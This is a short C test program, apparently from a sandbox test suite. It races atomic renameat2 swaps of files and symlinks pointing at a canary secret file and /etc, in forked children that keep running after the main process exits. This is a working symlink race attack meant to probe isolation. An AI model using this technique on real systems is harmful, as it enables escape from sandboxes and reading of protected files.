/* Swap a file and a link to the host without a pause, also while the program is being ended. */
#include "attempt.h"

int main(void) {
    close(open("good", O_CREAT | O_WRONLY, 0600));
    symlink(getenv("CANARY_SECRET_FILE"), "link");
    mkdir("folder", 0755);
    symlink("/etc", "other");
    for (int i = 0; i < 3; i++)
        if (fork() == 0)
            for (;;) {
                syscall(SYS_renameat2, AT_FDCWD, "good", AT_FDCWD, "link", 2);
                syscall(SYS_renameat2, AT_FDCWD, "folder", AT_FDCWD, "other", 2);
            }
    nap(0.2);
    puts("main ended");
    return 0;
}
